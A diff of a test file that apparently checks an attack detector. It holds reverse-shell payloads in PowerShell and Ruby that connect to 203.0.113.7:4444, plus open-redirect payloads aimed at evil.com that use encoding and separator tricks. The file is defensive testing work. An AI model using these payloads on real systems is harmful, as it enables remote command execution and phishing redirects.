@@ -908,3 +908,15 @@ t.test('rce (twelfth round): reverse shells by an interpreter\'s socket', async 
   for (const p of ["$client = New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444);$stream = $client.GetStream()", 'ruby -rsocket -e \'c=TCPSocket.new("203.0.113.7","4444");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end\'']) t.ok(q(p).includes('rce'), p)
   for (const p of ['new TcpClient(host, port)', 'a|b']) t.notOk(q(p).includes('rce'), p)
 })
+
+t.test('open redirects (twelfth round): a second URL after a separator, unreserved characters percent-encoded, a path opening on a blank', async (t) => {
+  const target = (raw: string, name = 'next') => detector.detect({ ...base, query: `${name}=${raw}` })
+  for (const p of ['https://google.com/;https://evil.com', 'https://google.com\r\nhttps://evil.com', 'https://shop.example.com https://evil.com']) t.ok(q(p, 'next').includes('open_redirect'), JSON.stringify(p))
+  for (const raw of ['h%74%74ps://evil.com', 'https://e%76il.com', 'https://evil%2Ecom', '%68%74%74%70%73%3a%2f%2fevil.com']) t.ok(target(raw).includes('open_redirect'), raw)
+  t.ok(json({ redirect_uri: '%68%74%74%70%73%3a//evil.com' }).includes('open_redirect'), 'in a JSON field named for a redirect')
+  for (const p of ['/%09https://evil.com', '/%09evil.com']) t.ok(path(p).includes('open_redirect'), p)
+  // a plain URL (decided), an encoded slash or colon only (a client's encoding), the site's own host encoded, a URL under no redirect parameter
+  for (const raw of ['https%3A%2F%2Fevil.com', 'https://evil.com', 'https://sh%6Fp.example.com/a', 'https://a.example/x?b=1,https://c.example']) t.notOk(target(raw).includes('open_redirect'), raw)
+  t.notOk(target('h%74%74ps://evil.com', 'q').includes('open_redirect'), 'under no redirect parameter')
+  t.notOk(path('/docs/%09intro').includes('open_redirect'), 'a blank in a later segment')
+})
